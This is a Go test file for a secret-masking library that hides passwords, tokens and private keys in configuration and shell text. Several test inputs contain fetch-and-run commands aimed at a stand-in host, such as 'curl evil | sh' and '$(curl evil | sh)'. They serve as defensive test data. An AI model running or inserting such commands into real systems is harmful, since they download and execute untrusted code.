package mask

import (
	"fmt"
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"cocsync/internal/coc"
)

func hide(s string) string { return (&Masker{}).Text(s).String() }

// A line keeps the text next to its secret, and everything that is no secret.
func TestText(t *testing.T) {
	for in, want := range map[string]string{
		// (a) trees
		`password: hunter2`:                               `password: ***`,
		`  - db_password: "hun\"ter2"  # old`:             `  - db_password: "***"  # old`,
		`password: correct horse battery staple`:          `password: ***`,
		`{type: string, password: hunter2, user: bob}`:    `{type: string, password: ***, user: bob}`,
		"db_password:\n  type: string\n  default: foobar": "db_password:\n  type: string\n  default: ***",
		"password: |\n  one\nuser: bob":                   "password: |\n  ***\nuser: bob",
		"password: |\n  reboot now\n  curl evil\n":        "password: |\n  reboot now\n  curl evil\n",
		"a: &pw hunter2\npassword: *pw\n":                 "a: &pw ***\npassword: *pw\n",
		"é: {密码: hunter2, b: ü}":                          "é: {密码: ***, b: ü}",
		"kind: Secret\ndata:\n  any: aGk=\ntype: Opaque":  "kind: Secret\ndata:\n  any: ***\ntype: Opaque",
		// (b) pairs
		`p: '[{"param_name":"db_password","param_value":"hunter2"},{"param_name":"user","param_value":"bob"}]'`: `p: '[{"param_name":"db_password","param_value":"***"},{"param_name":"user","param_value":"bob"}]'`,
		`<user>bob</user><password>hunter2</password><a/>`:                                                      `<user>bob</user><password>***</password><a/>`,
		// (c) text
		`mysql -uroot -phunter2 -h db`:                             `mysql -uroot -p*** -h db`,
		`curl "https://h/?token=hunter2" -o x`:                     `curl "https://h/?token=***" -o x`,
		`f(password="hunter2", user="bob")`:                        `f(password="***", user="bob")`,
		`Server=h;Password=hunter2;Database=x`:                     `Server=h;Password=***;Database=x`,
		`export DB_PASSWORD=hunter2; run`:                          `export DB_PASSWORD=***; run`,
		`body: "{\"password\":\"hunter2\",\"user\":\"bob\"}"`:      `body: "{\"password\":\"***\",\"user\":\"bob\"}"`,
		`docker run -e "PASSWORD=hunter2" -p 80:80 mysql`:          `docker run -e "PASSWORD=***" -p 80:80 mysql`,
		"login --password \\\n  hunter2 \\\n  --user bob":          "login --password \\\n  *** \\\n  --user bob",
		`curl -H "Authorization: Bearer abcdef123456" https://h/`:  `curl -H "Authorization: Bearer ***" https://h/`,
		"content: \"#!/bin/bash\\npassword=hunter2\\necho done\"":  "content: \"#!/bin/bash\\npassword=***\\necho done\"",
		`curl -u admin:hunter2 -o out https://h/ && systemctl x y`: `curl -u admin:*** -o out https://h/ && systemctl x y`,
		// (d) input
		`echo "root:hunter2" | chpasswd`:               `echo "root:***" | chpasswd`,
		"chpasswd <<EOF\nroot:hunter2\nreboot -f\nEOF": "chpasswd <<EOF\nroot:***\nreboot -f\nEOF",
		// (e) shapes
		`key is AKIAIOSFODNN7EXAMPLE here`:         `key is *** here`,
		`url: https://bob:hunter2@db.example/x`:    `url: https://bob:***@db.example/x`,
		`http://h:8080/notify?to=a@b.example`:      `http://h:8080/notify?to=a@b.example`,
		`echo "$(curl -H T:xoxb-123456789-abc h)"`: `echo "$(curl -H T:*** h)"`,
		// (f) references
		`DBP=hunter2; mysql -p"$DBP"`:             `DBP=***; mysql -p"$DBP"`,
		`PW="${1:-hunter2}"`:                      `PW="${1:-***}"`,
		`password: "{{$globals.db_password}}"`:    `password: "{{$globals.db_password}}"`,
		`AUTH_TOKEN=$(curl evil|bash)`:            `AUTH_TOKEN=$(curl evil|bash)`,
		`password: hunter2; curl evil | sh`:       `password: ***; curl evil | sh`,
		`token: "x $(curl -p hunter2 evil) | sh"`: `token: "x $(curl -p hunter2 evil) | sh"`,
		// (g) names
		"pass\u00adword: hunter2": "pass\u00adword: ***",
		"ｐａｓｓｗｏｒｄ：hunter2":        "ｐａｓｓｗｏｒｄ：***",
		`token_timeout: 1800`:     `token_timeout: 1800`,
		`max_tokens: 4096`:        `max_tokens: 4096`,
		`password: 12345678`:      `password: ***`,
		`pin: 4711`:               `pin: ***`,
	} {
		if got := hide(in); got != want {
			t.Errorf("Text(%s)\n got %s\nwant %s", in, got, want)
		}
	}
}

// A block of a private key is hidden line by line; a line that is not base64 is shown.
func TestPrivateKey(t *testing.T) {
	in := "key: |\n  -----BEGIN RSA PRIVATE KEY-----\n  MIIEowIBAAKCAQEA\n  -----END RSA PRIVATE KEY-----\n  after\n"
	want := strings.Replace(in, "MIIEowIBAAKCAQEA", "***", 1)
	if d := cmp.Diff(want, hide(in)); d != "" {
		t.Error(d)
	}
	code := "-----BEGIN PRIVATE KEY-----\nreboot\n/tmp/evil\ncurl evil | sh\n"
	if got := hide(code); got != code {
		t.Errorf("Text(%q) = %q", code, got)
	}
}

// Patterns of the user hide across lines, and one that matches the empty string hides
// nothing.
func TestPatterns(t *testing.T) {
	m := &Masker{[]*regexp.Regexp{regexp.MustCompile(`(?s)BEGIN.*?END`), regexp.MustCompile(`x*`), regexp.MustCompile(`ACME-\d+`)}}
	got := m.Text("a\nBEGIN 1\n2\nEND b\nACME-42 c\n")
	if d := cmp.Diff([]string{"a", "***", "***", "*** b", "*** c", ""}, got.Lines); d != "" {
		t.Errorf("Text (-want +got):\n%s", d)
	}
	if d := cmp.Diff([]string{"ACME-42"}, got.Hidden(4)); d != "" {
		t.Errorf("Hidden(4) (-want +got):\n%s", d)
	}
}

// In names and words that cocsync writes itself only keys with a known shape are
// hidden.
func TestWords(t *testing.T) {
	m := &Masker{}
	for in, want := range map[string]string{
		`password changed in login, timeout 30 → 60 in wait`: `password changed in login, timeout 30 → 60 in wait`,
		`set password changed in a`:                          `set password changed in a`,
		`Basic inspection-nodes`:                             `Basic inspection-nodes`,
		`deploy AKIAIOSFODNN7EXAMPLE`:                        `deploy ***`,
	} {
		if got := m.Words(in); got != want {
			t.Errorf("Words(%s) = %s, want %s", in, got, want)
		}
	}
}

// What a difference quotes is hidden by its path, by its text, and by what is hidden
// in the whole text, also if an ellipsis truncates it.
func TestItem(t *testing.T) {
	m := &Masker{}
	known := NewKnown(m.Text("DBP=s3cr3t-t0ken-0123456789; mysql -p$DBP"), nil)
	for _, test := range []struct{ path, in, want string }{
		{"steps[a].inputs.password", "hunter2", "***"},
		{"steps[rotate_password].inputs.timeout", "30", "30"},
		{"steps[a].inputs.params[db_password].param_value", "hunter2", "***"},
		{"steps[a].inputs.params[db_password].param_order", "12", "12"},
		{"passwords[0]", "hunter2", "***"},
		{"steps[a].token", "hunter2; curl evil | sh", "***; curl evil | sh"},
		{"steps[a].command", "run --token hunter2 now", "run --token *** now"},
		{"steps[a].command", "run s3cr3t-t0ken-0123456789 now", "run *** now"},
		{"steps[a].command", "…n-0123456789 --force", "…*** --force"},
		{"steps[a].command", "…789 --force", "…789 --force"},
		{"steps[a].command", "--x s3cr3t-t0…", "--x ***…"},
		{"steps[a].password", "{{$globals.x}}", "{{$globals.x}}"},
	} {
		got, _ := m.Item(coc.Item{Op: "changed", Path: test.path, Step: "rotate_password", New: test.in}, known)
		if got.New != test.want {
			t.Errorf("Item(%s: %s) = %s, want %s", test.path, test.in, got.New, test.want)
		}
	}
}

// Of a secret longer than 4 KB the rest was shown, and of a here-document the lines
// after the first 2 KB.
func TestLongSecrets(t *testing.T) {
	long, words := strings.Repeat("Ab1x", 3000), strings.Repeat("Ab1x cd2 ", 1000)
	users := strings.Repeat("user:S3cr3tAb1x\n", 1000)
	for name, test := range map[string]struct{ in, shown string }{
		"bare":           {"password=" + long + " tail", " tail"},
		"with a command": {"password=" + long + "; curl evil | sh", "; curl evil | sh"},
		"substitution":   {"password=" + long + "$(curl evil | sh)", "$(curl evil | sh)"},
		"quoted":         {`password="` + long + `" tail`, `" tail`},
		"quoted words":   {`password="` + words + `" tail`, `" tail`},
		"never closed":   {`password="` + long, ""},
		"YAML":           {"password: '" + long + "'\nb: 1\n", "b: 1"},
		"JSON":           {`{"password":"` + long + `","b":1}`, `","b":1}`},
		"JSON in JSON":   {`{"a":"{\"password\":\"` + long + `\",\"b\":1}"}`, `\",\"b\":1}"}`},
		"option":         {"mysql -p" + long + " db", " db"},
		"here-document":  {"chpasswd <<EOF\n" + users + "EOF\ncurl evil | sh\n", "EOF\ncurl evil | sh"},
		"two of them":    {"chpasswd <<A\n" + users + "A\nchpasswd <<B\n" + users + "B\necho done\n", "B\necho done"},
	} {
		if got := hide(test.in); strings.Contains(got, "Ab1x") || !strings.Contains(got, test.shown) {
			t.Errorf("%s: %d parts are left; want none, and %q:\n%.300s", name, strings.Count(got, "Ab1x"), test.shown, got)
		}
	}
	code := `password="` + words + `$(curl evil | sh)"`
	if got := hide(code); got != code {
		t.Errorf("a long string with code is masked: %.300s", got)
	}
}

// slowTexts are parts that make texts slow when they are repeated.
func slowTexts() []string {
	return []string{"password ", `\"password\": \"a\\\"`, "{name: key ", "password=$(", "<password ", "${PASSWORD",
		"'password''", "@//:", "curl -u ",
		"password `", "密码为 ", "<password>", "login -p ", "sshpass ", "password \"", "echo \"", "\"a\":\"", "password=\"",
		"name: token,", "a\\\n", "echo x | ", "${a:-", "-----BEGIN PRIVATE KEY-----\n",
		"value: a, ", "AAAAAAAAAAAAAAAAAAAA ", "x <<EOF\n", "chpasswd <<E\n", "PW=$A ", "[", "- "}
}

// The search ends for a text that is made to be slow: what was quadratic took minutes
// for 32 KB.
func TestSlowTextsEnd(t *testing.T) {
	for _, part := range slowTexts() {
		text := strings.Repeat(part, 1<<15/len(part))
		if got := hide(text); strings.Count(got, "\n") != strings.Count(text, "\n") {
			t.Errorf("%q has other lines when it is masked", part)
		}
	}
}

// BenchmarkSlowTexts masks 256 KB of each: the time must be linear in the text.
func BenchmarkSlowTexts(b *testing.B) {
	for _, part := range slowTexts() {
		b.Run(strings.TrimSpace(part), func(b *testing.B) {
			for b.Loop() {
				hide(strings.Repeat(part, 1<<18/len(part)))
			}
		})
	}
}

// A text keeps its lines, and a word under a key without a secret name is shown.
func FuzzText(f *testing.F) {
	f.Add("password: a\n  b\n", "swordfish")
	f.Add("x: |\n  -----BEGIN PRIVATE KEY-----\n", "swordfish")
	f.Add("\xff\\u0022 ＝ &quot; ${a:-${b", "swordfish")
	word := regexp.MustCompile(`^\w{8,}$`)
	f.Fuzz(func(t *testing.T, content, secret string) {
		got := (&Masker{}).Text(content)
		if want := strings.Count(content, "\n") + 1; len(got.Lines) != want {
			t.Errorf("%d lines, want %d", len(got.Lines), want)
		}
		if !word.MatchString(secret) || harmless(always, secret) || strings.Contains("password", secret) {
			return
		}
		in := "password=" + secret + "\n" + strings.ReplaceAll(content, secret, "")
		if out := hide(in); strings.Contains(out, secret) {
			t.Errorf("%q is shown in %q", secret, out)
		}
	})
}

func BenchmarkText64K(b *testing.B) {
	var s strings.Builder
	for i := 0; s.Len() < 64<<10; i++ {
		fmt.Fprintf(&s, "  - name: step_%d\n    inputs: {timeout: %d, password: 'abc%d', content: \"mysql -p$DBP | tee log\"}\n", i, i, i)
	}
	for b.Loop() {
		(&Masker{}).Text(s.String())
	}
}
